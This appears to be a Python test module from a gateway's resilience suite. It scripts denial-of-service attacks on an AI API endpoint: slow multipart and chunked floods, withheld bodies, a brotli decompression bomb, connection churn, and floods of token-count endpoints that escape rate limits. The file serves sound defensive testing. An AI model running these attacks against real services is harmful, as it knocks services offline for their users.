"""Attacks by one caller with a key: `python tests/attacks/one_key.py [name ...]`."""

from __future__ import annotations

import asyncio

import brotli
from stand import Attack, Target, burst, flood, hold, in_parallel, main

MIB = 1024 * 1024


def head(target: Target, path: str, framing: str, content_type: str = "application/json") -> bytes:
    """The head of a request with the attacker's key."""
    lines = (
        f"POST {path} HTTP/1.1",
        "Host: bridge.example",
        f"Authorization: Bearer {target.key}",
        f"Content-Type: {content_type}",
        framing,
    )
    return "".join(f"{line}\r\n" for line in (*lines, "")).encode()


def _form(connections: int, piece: bytes) -> Attack:
    """Send picture edits whose bodies repeat this piece, at about 0.5 MB/s per connection."""

    async def one(target: Target) -> None:
        await flood(
            target,
            head(target, "/v1/images/edits", f"Content-Length: {30 * MIB}", "multipart/form-data; boundary=x"),
            piece,
            pause=0.03,
        )

    async def attack(target: Target) -> None:
        await in_parallel(connections, lambda _: one(target))

    return attack


def _bodies(path: str, size: int, framing: str = "") -> Attack:
    """Send as many bodies of this size as the key allows per minute, each without its last byte."""

    async def attack(target: Target) -> None:
        sent = head(target, path, framing or f"Content-Length: {size}")
        await asyncio.gather(*(burst(target, sent + b"[" + b" " * (size - 2), 60) for _ in range(59)))

    return attack


def _texts(text: str) -> Attack:
    """Send 59 complete bodies of 31 MiB with one prompt at once."""

    async def attack(target: Target) -> None:
        content = text + "a" * (31 * MIB)
        body = f'{{"model": "{target.model}", "messages": [{{"role": "user", "content": "{content}"}}]}}'.encode()
        sent = head(target, "/v1/chat/completions", f"Content-Length: {len(body)}") + body
        await asyncio.gather(*(burst(target, sent, 60) for _ in range(59)))

    return attack


def _compressed() -> Attack:
    """Send forms of a few hundred bytes that decompress to 31 MiB; the large field, a mask, is not used."""

    async def attack(target: Target) -> None:
        part = '--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'
        texts = part % ("model", "", "gpt-image-3") + part % ("prompt", "", "/draw")
        form = texts + part % ("mask", '; filename="a"', "\0" * (31 * MIB)) + "--x--"
        body = brotli.compress(form.encode(), quality=5)
        framing = f"Content-Encoding: br\r\nContent-Length: {len(body)}"
        sent = head(target, "/v1/images/edits", framing, "multipart/form-data; boundary=x") + body
        await asyncio.gather(*(burst(target, sent, 60) for _ in range(59)))

    return attack


def _silent(framing: str) -> Attack:
    """Announce large bodies and send nothing."""

    async def attack(target: Target) -> None:
        await in_parallel(8, lambda _: hold(target, head(target, "/v1/chat/completions", framing)))

    return attack


def _chunks(connections: int, piece: bytes) -> Attack:
    async def one(target: Target) -> None:
        await flood(target, head(target, "/v1/chat/completions", "Transfer-Encoding: chunked"), piece)

    async def attack(target: Target) -> None:
        await in_parallel(connections, lambda _: one(target))

    return attack


def _broken(connections: int) -> Attack:
    """Send bodies of 30 MB whose JSON is broken after a picture."""

    async def send(target: Target) -> None:
        body = b'{"messages":[{"content":[{"url":"data:image/png;base64,%b"}' % (b"A" * 30_000_000)
        await burst(target, head(target, "/v1/chat/completions", f"Content-Length: {len(body)}") + body, 30)

    async def attack(target: Target) -> None:
        await in_parallel(connections, lambda _: send(target))

    return attack


def _asking(connections: int) -> Attack:
    """Send requests over new connections, as fast as they are answered."""

    async def ask(target: Target) -> None:
        reader, writer = await target.connect()
        try:
            writer.write(head(target, "/v1/chat/completions", "Content-Length: 2") + b"{}")
            await reader.read(4096)
        finally:
            writer.transport.abort()

    async def attack(target: Target) -> None:
        await in_parallel(connections, lambda _: ask(target))

    return attack


def _repeating(connections: int, path: str, body: bytes) -> Attack:
    """Send requests that do not count towards the key's limits, over kept connections, as fast as they are answered."""

    async def repeat(target: Target) -> None:
        reader, writer = await target.connect()
        sent = head(target, path, f"Content-Length: {len(body)}") + body
        if not body:
            sent = sent.replace(b"POST", b"GET", 1)
        try:
            while True:
                writer.write(sent)
                answer = await reader.readuntil(b"\r\n\r\n")
                await reader.readexactly(int(answer.lower().partition(b"content-length: ")[2].split()[0]))
        finally:
            writer.transport.abort()

    async def attack(target: Target) -> None:
        await in_parallel(connections, lambda _: repeat(target))

    return attack


def _counted(size: int) -> bytes:
    return b'{"model": "gemini-4-pro", "messages": [{"role": "user", "content": "%b"}]}' % (b"word " * (size // 5))


_PART = b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'

ATTACKS: dict[str, Attack] = {
    "preamble-newlines": _form(20, b"\n" * 16384),
    "preamble-lines": _form(20, b"a\r\n" * 5000),
    "newlines-in-a-part": _form(20, _PART + b"\r\n" * 8000),
    "almost-boundaries": _form(20, _PART + b"\r\n--" * 4000),
    "headers-without-end": _form(20, b"--x\r\n" + b"a: b\r\n" * 2500),
    "parts-without-end": _form(20, (_PART + b"a\r\n") * 200),
    "generations": _bodies("/v1/images/generations", 31 * MIB),
    "generations-chunked": _bodies("/v1/images/generations", 31 * MIB, "Transfer-Encoding: chunked\r\nX-A: a"),
    "chats": _bodies("/v1/chat/completions", 31 * MIB),
    "texts": _texts(""),
    "texts-of-wide-characters": _texts("\N{GRINNING FACE}"),
    "broken-JSON": _broken(4),
    "compressed": _compressed(),
    "silent-bodies": _silent(f"Content-Length: {32 * MIB}"),
    "silent-chunks": _silent("Transfer-Encoding: chunked"),
    "tiny-chunks-1": _chunks(1, b"1\r\n \r\n" * 10_000),
    "tiny-chunks-10": _chunks(10, b"1\r\n \r\n" * 10_000),
    "small-extensions": _chunks(10, b"1;a\r\n \r\n" * 6000),
    "asking-50": _asking(50),
    "asking-500": _asking(500),
    "counting": _repeating(50, "/v1/messages/count_tokens", _counted(1000)),
    "counting-60-kB": _repeating(50, "/v1/messages/count_tokens", _counted(60_000)),
    "counting-3-MB": _repeating(20, "/v1/messages/count_tokens", _counted(3_000_000)),
    "counting-messages": _repeating(
        20,
        "/v1/responses/input_tokens",
        b'{"model": "gemini-4-pro", "input": ['
        + b'{"role": "user", "content": "a"},' * 30_000
        + b'{"role": "user", "content": "a"}]}',
    ),
    "models": _repeating(50, "/v1/models", b""),
    "trailers": _chunks(4, b"0\r\n" + (b"X-A: " + b"a" * 900 + b"\r\n") * 10_000),
}

if __name__ == "__main__":
    main(__file__, ATTACKS)
